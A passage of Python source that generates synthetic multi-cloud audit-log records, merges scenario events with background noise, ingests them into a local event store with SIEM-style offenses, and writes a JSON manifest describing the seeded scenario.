                source, name, read_only = "iam.amazonaws.com", "CreateUser", False
                error = ("AccessDenied", f"{identity['arn']} is not authorized to perform: iam:CreateUser")
            elif rng.random() < 0.02:
                action = f"{source.split('.')[0]}:{name}"
                error = ("AccessDenied", f"{identity['arn']} is not authorized to perform: {action}")
            request = (
                {"userName": f"user{rng.randrange(1000)}"} if name in ("CreateUser", "DeleteUser") else None
            )
            response = (
                {"ConsoleLogin": "Failure" if rng.random() < 0.15 else "Success"}
                if name == "ConsoleLogin"
                else None
            )
            yield (
                t,
                b.cloudtrail(
                    t,
                    name,
                    identity,
                    ip,
                    UA_CONSOLE if name == "ConsoleLogin" else UA_BOTO3_SCRIPT,
                    source=source,
                    request=request,
                    response=response,
                    error=error,
                    read_only=read_only,
                ),
            )
        elif roll < 0.52:
            upn = rng.choice(upns)
            yield (
                t,
                b.entra_signin(
                    t, upn, ip, error_code=0 if rng.random() < 0.9 else rng.choice((50126, 50074))
                ),
            )
        elif roll < 0.60:
            operation, category, _w = rng.choice(entra_ops)
            actor = rng.choice(upns)
            target = rng.choice(upns)
            result, reason = "success", ""
            if rng.random() < 0.02:
                operation, category, result = "Add user", "UserManagement", "failure"
                reason = "Insufficient privileges to complete the operation."
                target = f"temp{rng.randrange(1000)}@{TENANT_DOMAIN}"
            yield (
                t,
                b.entra_audit(
                    t,
                    operation,
                    category=category,
                    initiated_by=b.user_initiator(actor, ip),
                    targets=[b.user_target(target, target.split("@")[0])],
                    result=result,
                    result_reason=reason,
                    operation_type="Update",
                ),
            )
        elif roll < 0.80:
            operation, workload, record_type, _w = rng.choice(o365_ops)
            user = rng.choice(upns)
            yield (
                t,
                b.o365(
                    t,
                    operation,
                    user,
                    workload=workload,
                    record_type=record_type,
                    object_id=rng.choice(upns) if operation == "Update user." else None,
                    result="Failed" if operation == "UserLoginFailed" else "Succeeded",
                    actor_ip=ip,
                ),
            )
        elif roll < 0.90:
            method, service, log, _w = rng.choice(gcp_ops)
            denied = rng.random() < 0.03
            yield (
                t,
                b.gcp(
                    t,
                    method,
                    rng.choice(gcp_principals),
                    ip,
                    "google-api-go-client/0.5 gcloud",
                    service=service,
                    log=log,
                    permission=method,
                    denied=denied,
                    resource_type="gcs_bucket" if service.startswith("storage") else "gce_instance",
                ),
            )
        else:
            operation, resource, _w = rng.choice(azure_ops)
            yield t, b.azure_activity(t, operation, rng.choice(upns), ip, resource)


def unrelated_records(count: int, seed: int = DEFAULT_SEED, now_ms: int | None = None) -> Iterator[dict]:
    """Only the bulk noise: ``count`` unrelated raw records over the last 48 hours, oldest first."""
    builder = _Builder(seed, int(time.time() * 1000) if now_ms is None else now_ms)
    return (record for _time, record in noise_records(builder, count))


# --- assembling, writing, ingesting --------------------------------------------------------------------


def _generate(seed: int, events: int, now_ms: int | None) -> tuple[Scenario, Iterator[dict]]:
    """The scenario (its ``records`` holding only the scenario items' records) and a stream of every
    record, items and noise merged in time order."""
    now = int(time.time() * 1000) if now_ms is None else now_ms
    builder = _Builder(seed, now)
    items, offenses, chains = _scenario_items(builder)
    interesting = sorted(builder.records, key=lambda r: builder.times[id(r)])
    times = builder.times
    noise = noise_records(builder, max(0, events - len(interesting)))
    merged = heapq.merge(
        ((times[id(r)], 0, n, r) for n, r in enumerate(interesting)),
        ((t, 1, n, r) for n, (t, r) in enumerate(noise)),
    )
    scenario = Scenario(seed, events, builder.now_ms, interesting, items, offenses, chains)
    return scenario, (entry[3] for entry in merged)


def build_scenario(
    seed: int = DEFAULT_SEED, events: int = DEFAULT_EVENTS, now_ms: int | None = None
) -> Scenario:
    """The scenario's records (sorted by event time) and what they mean. Deterministic for (seed, events,
    now_ms). Holds every record in memory: ``seed`` streams instead."""
    scenario, stream = _generate(seed, events, now_ms)
    scenario.records = list(stream)
    return scenario


def write_records(records: Iterable[dict], path: Path) -> int:
    """Write records as JSON lines; returns how many."""
    path.parent.mkdir(parents=True, exist_ok=True)
    count = 0
    with path.open("w", encoding="utf-8") as handle:
        for record in records:
            handle.write(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
            handle.write("\n")
            count += 1
    return count


def _reset_store(data_dir: Path) -> None:
    for name in ("events.db", "events.db-wal", "events.db-shm"):
        (data_dir / name).unlink(missing_ok=True)
    shutil.rmtree(data_dir / "scenario", ignore_errors=True)


def _record_facts(record: dict) -> tuple[str, str | None, str | None]:
    """(record id field, record id, username as the DSM sets it) of one scenario record."""
    event = parse_record(record)
    return RECORD_ID_FIELDS[event.source], event.record_id, event.username


def seed(
    data_dir: str | Path,
    events: int = DEFAULT_EVENTS,
    seed_value: int = DEFAULT_SEED,
    now_ms: int | None = None,
) -> dict:
    """Generate the scenario into ``data_dir`` (replacing any previous one) and return the manifest."""
    data = Path(data_dir)
    data.mkdir(parents=True, exist_ok=True)
    _reset_store(data)
    scenario, stream = _generate(seed_value, events, now_ms)
    records_path = data / "scenario" / "records.jsonl"
    wanted = {id(record) for record in scenario.records}
    position: dict[int, int] = {}

    def remember_positions() -> Iterator[dict]:
        for index, record in enumerate(stream):
            if id(record) in wanted:
                position[id(record)] = index
            yield record

    record_count = write_records(remember_positions(), records_path)

    store = EventStore.in_dir(data)
    report = ingest_files(store, [records_path], collect_ids=set(position.values()))
    if report.rejected or report.errors:
        raise RuntimeError(f"scenario records were rejected: {report.rejected[:5]} {report.errors}")
    event_id_of_index = dict(report.event_ids or [])

    def event_id(ref: EventRef) -> int:
        return event_id_of_index[position[id(ref.record)]]

    with store.connect(readonly=True) as conn:
        stored = {
            row[0]: row[1:]
            for row in conn.execute(
                "SELECT e.id, e.qid, e.devicetype, e.starttime, q.name"
                " FROM events e JOIN qid_records q ON q.qid = e.qid"
                f" WHERE e.id IN ({','.join(str(event_id(r)) for i in scenario.items for r in i.events)})"
            )
        }

    def event_entry(ref: EventRef) -> dict[str, Any]:
        eid = event_id(ref)
        qid, devicetype, starttime, name = stored[eid]
        field_name, record_id, username = _record_facts(ref.record)
        entry: dict[str, Any] = {
            "event_id": eid,
            "record_id_field": field_name,
            "record_id": record_id,
            "event_name": name,
            "username": username,
            "qid": qid,
            "devicetype": devicetype,
            "starttime": starttime,
            "role": ref.role,
            "expected_detection": ref.expected_detection,
        }
        if ref.is_service_account is not None:
            entry["is_service_account"] = ref.is_service_account
        if ref.account_kind:
            entry["account_kind"] = ref.account_kind
        if ref.target_account is not None:
            entry["target_account"] = ref.target_account
        if ref.twin_of is not None:
            entry["twin_of_event_id"] = event_id(ref.twin_of)
        return entry

    offense_entries = []
    offense_of_item: dict[str, int] = {}
    for spec in scenario.offenses:
        ids = [event_id(ref) for ref in spec.events]
        times = [stored[i][2] for i in ids]
        fields: dict[str, Any] = {
            "offense_type": spec.offense_type,
            "offense_source": spec.offense_source,
            "magnitude": spec.magnitude,
            "severity": spec.severity,
            "credibility": spec.credibility,
            "relevance": spec.relevance,
            "status": spec.status,
            "rules": spec.rules,
        }
        if spec.closed:
            fields["close_time"] = max(times) + 3_600_000
        offense_id = store.add_offense(spec.description, min(times), max(times), **fields)
        store.link_offense_events(offense_id, ids)
        for key in spec.items:
            offense_of_item.setdefault(key, offense_id)
        offense_entries.append(
            {
                "id": offense_id,
                "description": spec.description,
                "status": spec.status,
                "event_ids": ids,
                "items": spec.items,
                "has_cloud_account_events": spec.has_cloud_account_events,
                "offense_source": spec.offense_source,
            }
        )

    item_entries = []
    for item in scenario.items:
        item_entries.append(
            {
                "key": item.key,
                "kind": item.kind,
                "title": item.title,
                "platform": item.platform,
                "source": item.source,
                "actor": item.actor,
                "actor_id": item.actor_id,
                "actor_type": item.actor_type,
                "is_service_account": item.is_service_account,
                "chain_kind": item.chain_kind,
                "chain_rule": CHAIN_RULES.get(item.chain_kind or ""),
                "follows": item.follows,
                "also_seen_in": item.also_seen_in,
                "allowlist": item.allowlist,
                "hostile": item.hostile_fields is not None,
                "hostile_fields": item.hostile_fields,
                "offense_id": offense_of_item.get(item.key),
                "notes": item.notes,
                "events": [event_entry(ref) for ref in item.events],
            }
        )

    manifest = {
        "version": MANIFEST_VERSION,
        "seed": seed_value,
        "events_requested": events,
        "generated_at_ms": scenario.now_ms,
        "records_path": str(records_path),
        "totals": {
            "records": record_count,
            "ingested": report.ingested,
            "rejected": len(report.rejected),
            "by_source": dict(sorted(report.by_source.items())),
        },
        "tenants": {
            "aws_account": AWS_ACCOUNT,
            "entra_tenant": TENANT_ID,
            "entra_domain": TENANT_DOMAIN,
            "gcp_project": GCP_PROJECT,
            "azure_subscription": AZURE_SUBSCRIPTION,
        },
        "log_source_types": {
            "AWS": 347,
            "Azure AD": 445,
            "Office 365": 397,
            "GCP": 5001,
            "Azure Platform": 413,
        },
        "custom_properties": {"account_name": "Account Name"},
        "chain_rules": {kind: letter for kind, letter in CHAIN_RULES.items()},
        "items": item_entries,
        "chains": [
            {
                "kind": chain.kind,
                "rule": CHAIN_RULES[chain.kind],
                "items": chain.items,
                "event_ids": [event_id(ref) for ref in chain.events],
            }
            for chain in scenario.chains
        ],
        "offenses": offense_entries,
    }
    manifest_path = data / "scenario" / "manifest.json"
    manifest_path.write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    return manifest


def seed_command(args: Any) -> int:
    """``python -m devconsole seed --data DIR [--events N] [--seed S]``."""
    events = args.events if getattr(args, "events", None) is not None else DEFAULT_EVENTS
    seed_value = args.seed if getattr(args, "seed", None) is not None else DEFAULT_SEED
    started = time.perf_counter()
    manifest = seed(args.data, events, seed_value)
    totals = manifest["totals"]
    kinds: dict[str, int] = {}
    for item in manifest["items"]:
        kinds[item["kind"]] = kinds.get(item["kind"], 0) + 1
    print(
        f"seeded {totals['ingested']} events ({totals['rejected']} rejected)"
        f" from {totals['records']} records in {time.perf_counter() - started:.1f} s; seed {seed_value}"
    )
    print("scenario items: " + ", ".join(f"{kind} {count}" for kind, count in sorted(kinds.items())))
    print(
        f"offenses: {len(manifest['offenses'])}; manifest: {Path(args.data) / 'scenario' / 'manifest.json'}"
    )
    return 0
